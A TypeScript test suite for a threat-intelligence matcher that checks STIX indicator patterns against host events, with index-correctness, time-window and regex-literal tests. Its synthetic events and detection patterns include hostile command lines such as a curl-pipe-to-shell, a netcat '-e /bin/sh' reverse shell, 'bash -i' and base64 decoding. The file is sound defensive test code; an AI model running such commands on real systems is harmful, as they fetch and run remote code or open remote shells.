// The live matcher: the index must find exactly what evaluating every pattern on every event finds
// (checked on random indicators and events), the event-to-STIX mapping must be the documented one,
// and observation windows must match, expire and stay bounded.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { IntelMatcher } from '../src/intel/match/intel-matcher.ts';
import { eventObservation, type AgentEvent } from '../src/intel/match/event-observation.ts';
import { compileIndicator, type IndicatorInfo } from '../src/intel/match/live-indicator.ts';
import { expressionRoots } from '../src/intel/pattern/evaluate.ts';
import { requiredLiteral } from '../src/intel/match/regex-literal.ts';
import { selectValues } from '../src/intel/pattern/select.ts';
import { parsePattern } from '../src/intel/pattern/parser.ts';

const info = (id: string, pattern: string): IndicatorInfo => ({ id, name: id, pattern, labels: [], killChainPhases: [], confidence: null, validFrom: 0, validUntil: null });

function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => { a = (a + 0x6d2b79f5) >>> 0; let t = Math.imul(a ^ (a >>> 15), a | 1); t ^= t + Math.imul(t ^ (t >>> 7), t | 61); return ((t ^ (t >>> 14)) >>> 0) / 4294967296; };
}

test('the documented mapping: exec, snapshot, connection, DNS, HTTP rows become STIX objects', () => {
  const values = (e: AgentEvent, pattern: string) => {
    const obs = eventObservation(e);
    const p = parsePattern(pattern).root;
    assert.ok(p.kind === 'observation' && p.expr.kind === 'comparison');
    const cmp = p.expr.path;
    const out: unknown[] = [];
    for (const o of obs.objects.values()) if (o['type'] === cmp.objectType) out.push(...selectValues(o, cmp.steps, (id) => obs.objects.get(id)));
    return out;
  };
  const snap: AgentEvent = { kind: 'process_snapshot', id: 1, time: 1_700_000_000_000, row: { pid: 10, ppid: 1, name: 'sshd', executable_path: '/usr/sbin/sshd', command_line: 'sshd -D', executable_hash: 'AB'.repeat(32), user_id: 0, user_name: 'root', cwd: '/', start_time: 1_699_999_000_000 } };
  assert.deepEqual(values(snap, "[process:image_ref.hashes.'SHA-256' = 'x']"), ['ab'.repeat(32)]);
  assert.deepEqual(values(snap, "[file:parent_directory_ref.path = 'x']"), ['/usr/sbin']);
  assert.deepEqual(values(snap, "[process:creator_user_ref.account_login = 'x']"), ['root']);
  assert.deepEqual(values(snap, "[user-account:user_id = 'x']"), ['0']);
  assert.deepEqual(values(snap, "[process:created_time = 'x']"), ['2023-11-14T21:56:40.000Z']);
  assert.deepEqual(values(snap, "[process:parent_ref.pid = 1]"), [1]);
  const exec: AgentEvent = { kind: 'process_exec', id: 2, time: 1, row: { pid: 11, ppid: 10, comm: 'bash', filename: '/bin/bash', command_line: 'bash -i', user_id: 1000, cwd: '/tmp' } };
  assert.deepEqual(values(exec, "[file:name = 'x']"), ['bash']);
  assert.deepEqual(values(exec, "[process:command_line = 'x']"), ['bash -i']);
  const accept: AgentEvent = { kind: 'network_connection', id: 3, time: 1, row: { event: 'accept', pid: 12, comm: 'nginx', family: 6, protocol: 'tcp', local_address: '2001:db8::1', local_port: 443, remote_address: '2001:db8::99', remote_port: 50000 } };
  assert.deepEqual(values(accept, "[network-traffic:src_ref.value = 'x']"), ['2001:db8::99']);
  assert.deepEqual(values(accept, "[network-traffic:dst_port = 1]"), [443]);
  assert.deepEqual(values(accept, "[network-traffic:src_ref.type = 'x']"), ['ipv6-addr']);
  assert.deepEqual(values(accept, "[process:opened_connection_refs[*].dst_ref.value = 'x']"), ['2001:db8::1']);
  const dns: AgentEvent = { kind: 'dns_query', id: 4, time: 1, row: { query_name: 'WWW.Example.COM.', answers: '[{"name":"www.example.com","type":"A","ttl":5,"data":"93.184.216.34"},{"name":"x","type":"CNAME","ttl":5,"data":"y"}]', client_address: '10.0.0.2', client_port: 5353, server_address: '10.0.0.1', server_port: 53, protocol: 'udp', ip_version: 4 } };
  assert.deepEqual(values(dns, "[domain-name:value = 'x']"), ['www.example.com']);
  assert.deepEqual(values(dns, "[domain-name:resolves_to_refs[*].value = 'x']"), ['93.184.216.34']);
  const http: AgentEvent = { kind: 'http_request', id: 5, time: 1, row: { host: 'dl.example:8080', path: '/a.sh', method: 'GET', client_address: '10.0.0.2', client_port: 5000, server_address: '1.2.3.4', server_port: 8080, protocol: 'tcp', ip_version: 4 } };
  assert.deepEqual(values(http, "[url:value = 'x']"), ['http://dl.example:8080/a.sh']);
  assert.deepEqual(values(http, "[domain-name:value = 'x']"), ['dl.example']);
});

test('the index finds exactly what evaluating every indicator on every event finds', () => {
  const r = rng(7);
  const names = ['curl', 'nc', 'bash', 'python3', 'sshd'];
  const ips = ['203.0.113.5', '203.0.113.200', '198.51.100.7', '10.1.2.3', '2001:db8::5'];
  const domains = ['a.evil.example', 'b.evil.example', 'www.good.example', 'evil.example'];
  const hashes = ['aa', 'bb', 'cc'].map((x) => x.repeat(32));
  const patterns: string[] = [];
  for (let i = 0; i < 400; i += 1) {
    const pick = <T>(a: T[]) => a[Math.floor(r() * a.length)]!;
    const kinds = [
      () => `[process:name = '${pick(names)}']`,
      () => `[process:name IN ('${pick(names)}', '${pick(names)}')]`,
      () => `[file:hashes.'SHA-256' = '${pick(hashes).toUpperCase()}']`,
      () => `[ipv4-addr:value ISSUBSET '203.0.113.0/${pick([24, 25, 30, 32])}']`,
      () => `[ipv6-addr:value ISSUBSET '2001:db8::/${pick([32, 64, 127])}']`,
      () => `[network-traffic:dst_ref.value = '${pick(ips)}' AND network-traffic:dst_port = ${pick([80, 443, 4444])}]`,
      () => `[domain-name:value = '${pick(domains)}']`,
      () => `[domain-name:value LIKE '%${pick(['.evil.example', 'evil.example', 'l.example'])}']`,
      () => `[process:command_line MATCHES '${pick(['-e /bin/sh', 'base64 -d', '^curl .*\\\\| *sh'])}']`,
      () => `[process:name = '${pick(names)}' OR process:command_line LIKE '%${pick(['-i', 'x'])}']`,
      () => `[process:name != '${pick(names)}']`,
      () => `[network-traffic:dst_port ${pick(['>', '>=', '<', '<='])} ${pick([80, 443, 1000, 4444, 5000])}]`,
      () => `[network-traffic:dst_port >= 443 AND network-traffic:dst_port <= ${pick([443, 4444, 6000])}]`,
      () => `[process:pid = ${pick([1, 10, 11])}]`,
    ];
    patterns.push(pick(kinds)());
  }
  const indicators = patterns.map((p, i) => info(`i${i}`, p));
  const m = new IntelMatcher();
  assert.equal(m.load(indicators).rejected.length, 0);
  const compiled = indicators.map((x) => compileIndicator(x, 3_600_000));
  let total = 0;
  for (let n = 0; n < 600; n += 1) {
    const pick = <T>(a: T[]) => a[Math.floor(r() * a.length)]!;
    const kind = pick(['process_exec', 'process_snapshot', 'network_connection', 'dns_query'] as const);
    const row: Record<string, unknown> = kind === 'dns_query'
      ? { query_name: pick(domains) }
      : kind === 'network_connection'
        ? { event: pick(['connect', 'accept']), pid: pick([10, 11]), comm: pick(names), family: 4, protocol: 'tcp', local_address: '10.0.0.1', local_port: 40000, remote_address: pick(ips), remote_port: pick([80, 443, 4444, 6000]) }
        : { pid: pick([10, 11, 12]), ppid: 1, name: pick(names), comm: pick(names), filename: '/usr/bin/' + pick(names), executable_path: '/usr/bin/x', executable_hash: pick(hashes), command_line: pick(['curl http://x | sh', 'nc 1.2.3.4 -e /bin/sh', 'bash -i', 'echo aGk= | base64 -d']), user_id: 0 };
    const e: AgentEvent = { kind, id: n, time: n * 1000, row };
    const got = m.match(e).map((x) => x.indicator.id).sort();
    const obs = eventObservation(e);
    const want = compiled.filter((c) => expressionRoots(c.leaves[0]!.expr, obs, false).size > 0).map((c) => c.info.id).sort();
    assert.deepEqual(got, want, `event ${JSON.stringify(e)}`);
    total += got.length;
  }
  assert.ok(total > 100, `only ${total} matches: the test data does not exercise the index`);
  assert.ok(m.stats.fallbackLeaves < 400 / 4, 'most leaves are indexed');
});

test('windows: REPEATS within WITHIN fires once per n events, old events expire, buffers are bounded', () => {
  const m = new IntelMatcher({ maxBufferedPerIndicator: 8, defaultHorizonMs: 60_000 });
  m.load([
    info('brute', "([network-traffic:dst_port = 22] REPEATS 3 TIMES) WITHIN 10 SECONDS"),
    info('seq', "[process:name = 'curl'] FOLLOWEDBY [process:name = 'chmod']"),
  ]);
  const conn = (t: number) => m.match({ kind: 'network_connection', id: t, time: t, row: { event: 'connect', pid: 5, family: 4, local_address: '10.0.0.1', local_port: 1, remote_address: '10.0.0.2', remote_port: 22 } }).map((x) => x.indicator.id);
  assert.deepEqual(conn(0), []);
  assert.deepEqual(conn(8_000), []);
  // 0 s has expired by 11 s: 8 s and 11 s are only two.
  assert.deepEqual(conn(11_000), []);
  assert.deepEqual(conn(12_000), ['brute']);
  // Consumed: the next match needs three new events.
  assert.deepEqual(conn(13_000), []);
  assert.deepEqual(conn(14_000), []);
  assert.deepEqual(conn(15_000), ['brute']);
  const exec = (t: number, name: string) => m.match({ kind: 'process_exec', id: t, time: t, row: { pid: t, comm: name, filename: '/bin/' + name } }).map((x) => x.indicator.id);
  // chmod before curl does not count (FOLLOWEDBY is ordered).
  assert.deepEqual(exec(20_000, 'chmod'), []);
  assert.deepEqual(exec(21_000, 'curl'), []);
  assert.deepEqual(exec(22_000, 'chmod'), ['seq']);
  // The default horizon (60 s) expires a lone curl.
  assert.deepEqual(exec(30_000, 'curl'), []);
  assert.deepEqual(exec(100_000, 'chmod'), []);
  // Bounded: a flood of curls keeps at most 8 buffered events.
  for (let i = 0; i < 1000; i += 1) exec(200_000 + i, 'curl');
  assert.ok(m.stats.activeWindows <= 2);
  assert.deepEqual(exec(201_500, 'chmod'), ['seq']);
});

test('the required literal of a regex is conservative', () => {
  assert.equal(requiredLiteral('implant-[0-9]+'), 'implant-');
  assert.equal(requiredLiteral('a|b'), '');
  assert.equal(requiredLiteral('(?i)evil'), '');
  assert.equal(requiredLiteral('ab\\x41cd'), '');
  assert.equal(requiredLiteral('abc?d'), 'ab');
  assert.equal(requiredLiteral('^.+\\@example\\.com$'), '@example.com');
});

test('REPEATS larger than the default buffer still matches (buffers grow to what a match needs)', () => {
  const m = new IntelMatcher({ maxBufferedPerIndicator: 8 });
  m.load([info('many', "([domain-name:value = 'beacon.evil.example'] REPEATS 300 TIMES) WITHIN 3600 SECONDS")]);
  let fired = 0;
  for (let i = 0; i < 300; i += 1) {
    fired += m.match({ kind: 'dns_query', id: i, time: 1_000_000 + i * 1000, row: { query_name: 'beacon.evil.example' } }).length;
  }
  assert.equal(fired, 1);
});
